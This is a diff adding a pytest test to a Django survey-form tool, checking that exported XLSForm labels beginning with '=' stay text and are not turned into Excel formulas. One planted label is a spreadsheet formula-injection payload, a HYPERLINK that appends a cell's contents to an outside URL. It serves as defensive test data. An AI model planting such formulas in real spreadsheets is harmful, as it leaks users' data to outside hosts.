@@ -96,3 +96,56 @@ def test_form_import_of_a_broken_form_stores_nothing(
     assert main(["form", "import", str(path)]) == 1
     assert "type 'geopoint' is not supported" in capsys.readouterr().err
     assert FormVersion.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_form_export_writes_texts_starting_with_equals_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A label such as "=5 jaar" (or one planted to run in Excel) stays text on export: no
+    formula cell, the same form read back, and ``form check`` accepts the exported file."""
+    from openpyxl import load_workbook
+
+    from peiling.forms.xlsform import read_xlsform
+    from peiling.questionnaires.models import FormVersion
+
+    source = write_workbook(
+        """
+## survey
+| type         | name  | label   | hint |
+| select_one d | duur  | SURVEY  | HINT |
+## choices
+| list_name | name | label  |
+| d         | kort | Korter |
+| d         | lang | CHOICE |
+## settings
+| form_title | form_id |
+| TITLE      | duur    |
+""",
+        tmp_path / "source.xlsx",
+    )
+    planted = {
+        "SURVEY": '=HYPERLINK("http://example.org/?"&A1,"Klik")',
+        "HINT": "=1+1",
+        "CHOICE": "=5 jaar of langer",
+        "TITLE": "=Duur",
+    }
+    workbook = load_workbook(source)
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value in planted:
+                    cell.value = planted[cell.value]
+                    cell.data_type = "s"
+    workbook.save(source)
+    assert main(["form", "import", str(source)]) == 0
+    target = tmp_path / "out.xlsx"
+    assert main(["form", "export", str(FormVersion.objects.get().pk), "-o", str(target)]) == 0
+
+    cells = [cell for sheet in load_workbook(target).worksheets
+             for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert set(planted.values()) <= {cell.value for cell in cells}
+    assert read_xlsform(target) == read_xlsform(source)
+    capsys.readouterr()
+    assert main(["form", "check", str(target)]) == 0, capsys.readouterr().err
